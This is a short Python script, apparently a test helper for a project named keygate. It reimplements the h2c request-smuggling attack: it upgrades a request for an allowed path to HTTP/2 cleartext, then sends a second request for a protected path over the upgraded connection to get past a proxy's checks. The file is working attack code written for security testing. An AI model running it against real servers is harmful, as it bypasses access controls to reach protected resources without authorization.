"""An h2c-smuggling client for keygate's tests (the attack of BishopFox's
h2csmuggler, 2020, written anew): ask to upgrade a request for an allowed
path to h2c; if the server switches protocols, send a second request, for a
protected path, over the HTTP/2 connection, which a proxy that spliced the
upgrade no longer inspects.

    python3 smuggle.py HOST PORT ALLOWED_PATH PROTECTED_PATH

Prints one JSON line: {"upgraded": bool, "status": int, "body": str,
"smuggled_body": str or null}.
"""

import json
import socket
import sys

import h2.config
import h2.connection
import h2.events


def read_head(sock):
    buf = b""
    while b"\r\n\r\n" not in buf:
        chunk = sock.recv(65536)
        if not chunk:
            break
        buf += chunk
    head, _, rest = buf.partition(b"\r\n\r\n")
    return head, rest


def main():
    host, port, allowed, protected = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
    sock = socket.create_connection((host, port), timeout=10)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    settings = conn.initiate_upgrade_connection().decode()
    request = (
        f"GET {allowed} HTTP/1.1\r\n"
        f"Host: {host}:{port}\r\n"
        "Upgrade: h2c\r\n"
        f"HTTP2-Settings: {settings}\r\n"
        "Connection: Upgrade, HTTP2-Settings\r\n"
        "\r\n"
    )
    sock.sendall(request.encode())
    head, rest = read_head(sock)
    lines = head.decode("latin-1").split("\r\n")
    status = int(lines[0].split()[1]) if lines and len(lines[0].split()) > 1 else 0
    if status != 101:
        length = 0
        for line in lines[1:]:
            name, _, value = line.partition(":")
            if name.strip().lower() == "content-length":
                length = int(value.strip())
        while len(rest) < length:
            chunk = sock.recv(65536)
            if not chunk:
                break
            rest += chunk
        print(json.dumps({"upgraded": False, "status": status,
                          "body": rest.decode("latin-1"), "smuggled_body": None}))
        return
    sock.sendall(conn.data_to_send())
    stream = conn.get_next_available_stream_id()
    conn.send_headers(stream, [(":method", "GET"), (":path", protected),
                               (":authority", f"{host}:{port}"), (":scheme", "http")],
                      end_stream=True)
    sock.sendall(conn.data_to_send())
    smuggled = b""
    done = False
    data = rest
    while not done:
        for event in conn.receive_data(data) if data else []:
            if isinstance(event, h2.events.DataReceived):
                conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
                if event.stream_id == stream:
                    smuggled += event.data
            if isinstance(event, h2.events.StreamEnded) and event.stream_id == stream:
                done = True
            if isinstance(event, h2.events.StreamReset) and event.stream_id == stream:
                done = True
        sock.sendall(conn.data_to_send())
        if done:
            break
        data = sock.recv(65536)
        if not data:
            break
    print(json.dumps({"upgraded": True, "status": 101, "body": "",
                      "smuggled_body": smuggled.decode("latin-1")}))


if __name__ == "__main__":
    main()
